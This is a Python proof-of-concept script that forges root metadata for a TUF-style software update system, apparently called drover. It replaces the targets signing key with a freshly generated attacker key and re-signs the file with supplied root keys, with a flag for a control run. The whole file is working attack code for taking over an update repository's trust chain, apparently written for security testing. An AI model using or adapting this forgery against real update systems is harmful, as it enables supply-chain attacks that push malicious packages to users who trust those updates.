"""Forges root metadata version 2 from version 1: the attacker's own
ed25519 key becomes the targets key, and the result is signed with the
root keys given (ed25519 PKCS#8 PEM files, as drover writes them). With
--keep-targets the targets key stays (the control: a root signed by a
threshold of keys made this way is accepted).

usage: forge_root.py [--keep-targets] ROOT_V1_JSON ROOT_KEY_PEM... > 2.root.json
"""

import base64
import hashlib
import json
import sys

from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat


def canonical(obj):
    # TUF's canonical JSON (OLPC) for this metadata: sorted keys, no
    # whitespace; every string here is ASCII.
    return json.dumps(obj, sort_keys=True, separators=(",", ":")).encode()


def key_id(public_hex):
    return hashlib.sha256(
        canonical({"keytype": "ed25519", "keyval": {"public": public_hex}, "scheme": "ed25519"})
    ).hexdigest()


def load_seed(pem_path):
    der = base64.b64decode(
        "".join(l for l in open(pem_path).read().splitlines() if not l.startswith("-----"))
    )
    # PKCS#8: ... OCTET STRING (34) { OCTET STRING (32) seed } ...
    at = der.index(b"\x04\x22\x04\x20") + 4
    return der[at : at + 32]


def public_hex(key):
    return key.public_key().public_bytes(Encoding.Raw, PublicFormat.Raw).hex()


def main():
    args = sys.argv[1:]
    keep = "--keep-targets" in args
    args = [a for a in args if a != "--keep-targets"]
    root_path, key_paths = args[0], args[1:]
    signed = json.load(open(root_path))["signed"]
    signers = [Ed25519PrivateKey.from_private_bytes(load_seed(p)) for p in key_paths]
    signed["version"] = 2
    if not keep:
        attacker = Ed25519PrivateKey.generate()
        attacker_id = key_id(public_hex(attacker))
        signed["keys"][attacker_id] = {
            "keytype": "ed25519",
            "keyval": {"public": public_hex(attacker)},
            "scheme": "ed25519",
        }
        signed["roles"]["targets"]["keyids"] = [attacker_id]
    message = canonical(signed)
    signatures = [
        {"keyid": key_id(public_hex(k)), "sig": k.sign(message).hex()} for k in signers
    ]
    json.dump({"signed": signed, "signatures": signatures}, sys.stdout, indent=2)


if __name__ == "__main__":
    main()
